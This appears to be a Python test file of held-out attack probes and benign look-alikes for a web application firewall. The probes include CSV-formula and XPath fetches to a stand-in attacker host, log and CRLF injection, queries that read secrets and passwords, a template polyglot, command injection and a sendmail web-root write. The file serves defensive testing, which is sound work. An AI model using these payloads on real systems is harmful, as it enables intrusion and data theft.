"""WAF, part 2z50: held-out probes, seventy-third file (README: the
eighty-first round), written for this file on 2026-12-07. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the bellringers, fishmarket, stonemason and cobbler corpora
showed when first replayed (at cd0ca65) that the round fixed, an attack
the round refuses and a look-alike it passes:
- csv-quoted-formula: after a line break, a CSV cell quoted as CSV quotes
  it, a formula that fetches a URL, its quotes doubled; a formula that
  fetches nothing.
- logfmt-quoted: after a typed line break, a logfmt record whose message
  is quoted with blanks in it, naming who acted; one that reports a
  problem.
- log-banner: a line that frames words about the log between rules of
  "*", "=", "-" or "#"; a section's banner.
- escaped-logfmt: a line break written as an escape, then a logfmt record
  that opens with its level and names who acted; an escaped break in text.
- escaped-crlf-start: an escaped line break as the value's start, then a
  header line; an escaped break in a sentence.
- stage-secret: a pipeline stage that groups by a secret field; one that
  groups by a region and sums a count named tokens.
- aql-secret: an AQL loop that returns a secret field; one that returns a
  nickname.
- xpath-doc-url: XPath's doc() given a URL as the whole path; given a file.
- template-polyglot: three kinds of template delimiter in one run of text;
  two kinds in a sentence.
- rebind-name: a URL whose first label says the name rebinds; the word in
  a path.
- var-path: a chain to a path after an unset variable; a price per unit.
- sendmail-log: a quoted mail address whose local part carries sendmail's
  session-log option into a web root; tar's -x in a sentence.
Measured on cd0ca65: every attack above passed in both placements; the
look-alikes passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "csv-quoted-formula": [
        "Q3 stock\n\"=IMPORTXML(\"\"https://x.attacker.example/q\"\",\"\"//a\"\")\",4"],
    "logfmt-quoted": ["Bin 4\nlevel=info msg=\"refund approved\" actor=kim"],
    "log-banner": ["Shift 2 done\n*** logs cleared ***\nall good"],
    "escaped-logfmt": ["item\\nlevel=info msg=ok actor=root"],
    "escaped-crlf-start": ["\\r\\nX-Trace: 9"],
    "stage-secret": ["{\"$group\": {\"_id\": \"$otp_secret\"}}"],
    "aql-secret": ["FOR m IN members RETURN m.password"],
    "xpath-doc-url": ["doc('https://x.attacker.example/e.xml')/r"],
    "template-polyglot": ["<%={{${[%#{'\"}}%>"],
    "rebind-name": ["http://rebind.x.attacker.example/a"],
    "var-path": ["k;$z/bin/uname -a"],
    "sendmail-log": ["\"k\\\" -X/srv/www/htdocs/s.php z\"@x.example"],
}

BENIGN = {
    "csv-quoted-formula": ["Q3 stock\n\"=SUM(B2:B9)\",4"],
    "logfmt-quoted": ["Bin 4\nlevel=warn msg=\"login failed\" user=kim"],
    "log-banner": ["Agenda\n=== Part two ===\nSpeakers"],
    "escaped-logfmt": ["Line one\\nline two"],
    "escaped-crlf-start": ["\\n alone means a new line"],
    "stage-secret": ["[{\"$group\": {\"_id\": \"$region\", \"t\": {\"$sum\": \"$tokens\"}}}]"],
    "aql-secret": ["FOR m IN members RETURN m.nickname"],
    "xpath-doc-url": ["doc('catalog.xml')//item"],
    "template-polyglot": ["Use ${{ env.X }} or {{ y }}"],
    "rebind-name": ["https://example.org/rebind/status"],
    "var-path": ["Price $5/kg; ask"],
    "sendmail-log": ["unpack with tar -x into /var/www/html/ then reload"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r73_attack_refused_everywhere,
 test_heldout_r73_benign_passes) = heldout_probe_tests(
    "r73", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
